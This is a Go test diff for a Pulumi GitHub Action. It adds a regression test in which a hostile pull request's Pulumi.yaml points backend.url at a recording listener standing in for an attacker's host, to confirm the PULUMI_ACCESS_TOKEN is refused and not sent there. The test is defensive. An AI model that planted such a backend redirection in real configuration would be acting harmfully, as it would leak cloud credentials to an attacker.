@@ -2,6 +2,7 @@ package action
 
 import (
 	"context"
+	"fmt"
 	"net/http"
 	"net/http/httptest"
 	"os"
@@ -16,6 +17,7 @@ import (
 	"github.com/stackflow-io/stackflow/github-action/inputs"
 	"github.com/stackflow-io/stackflow/github-action/report"
 	"github.com/stackflow-io/stackflow/test/framework/gitrepo"
+	"github.com/stackflow-io/stackflow/test/framework/leaks"
 )
 
 // recorder is an HTTP listener standing for an attacker's host: it records
@@ -180,5 +182,53 @@ func TestHostilePullRequest(t *testing.T) {
 		if strings.Contains(string(summary), secret) || strings.Contains(body, secret) {
 			t.Errorf("the previewed program read %s", secret)
 		}
+	}
+}
+
+// TestProjectBackendCannotTakeToken: a job that gives PULUMI_ACCESS_TOKEN
+// without PULUMI_BACKEND_URL previews a pull request whose Pulumi.yaml
+// names a recording listener as backend.url, which the pulumi CLI would
+// otherwise prefer to its default and send the token to. The stack is
+// refused and the listener sees nothing; a project without backend.url is
+// previewed against the pinned backend (the Pulumi Cloud, here another
+// listener), which is the one that gets the token.
+func TestProjectBackendCannotTakeToken(t *testing.T) {
+	const pulumiToken = "pul-canaryProjectBackend0123456789"
+	w := newWorld(t)
+	evil, cloud := newRecorder(t), newRecorder(t)
+	w.cloudURL = cloud.URL
+	w.programBase(t, map[string]string{"infra/Pulumi.yaml": program})
+	pulumiYAML := filepath.Join(w.ws, "infra", "Pulumi.yaml")
+	if err := os.WriteFile(pulumiYAML, []byte(program+"backend:\n  url: "+evil.URL+"\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	c := w.config(t, inputs.ModeProgram, rwToken)
+	c.Stacks = []string{"dev"}
+	tokenOnly := map[string]string{"PULUMI_ACCESS_TOKEN": pulumiToken, "PULUMI_BACKEND_URL": ""}
+	code, log := w.runWith(t, c, tokenOnly)
+	if code != 1 || !strings.Contains(log, "PULUMI_ACCESS_TOKEN is set without PULUMI_BACKEND_URL: the previews use the backend "+cloud.URL) {
+		t.Fatalf("exit %d:\n%s", code, log)
+	}
+	texts := map[string]string{}
+	for i, r := range evil.requests() {
+		texts[fmt.Sprintf("listener request %d", i)] = r
+	}
+	leaks.AssertNone(t, []string{pulumiToken}, texts)
+	p, _ := report.Find(w.gh.Comments("acme", "infra", 5)[0].Body, "web/dev")
+	if !strings.Contains(p.Text, "refused, not previewed: Pulumi.yaml&#39;s backend.url &quot;"+evil.URL+"&quot; is not in the action&#39;s backends input") {
+		t.Errorf("web/dev's section:\n%s", p.Text)
+	}
+
+	// Without backend.url the CLI goes to the pinned backend.
+	if err := os.WriteFile(pulumiYAML, []byte(program), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	w.runWith(t, c, tokenOnly)
+	got := strings.Join(cloud.requests(), "\n")
+	if !strings.Contains(got, pulumiToken) {
+		t.Errorf("the pinned backend never got the token: the CLI went elsewhere\n%s", got)
+	}
+	if n := len(evil.requests()); n != 0 {
+		t.Errorf("the listener got %d requests", n)
 	}
 }
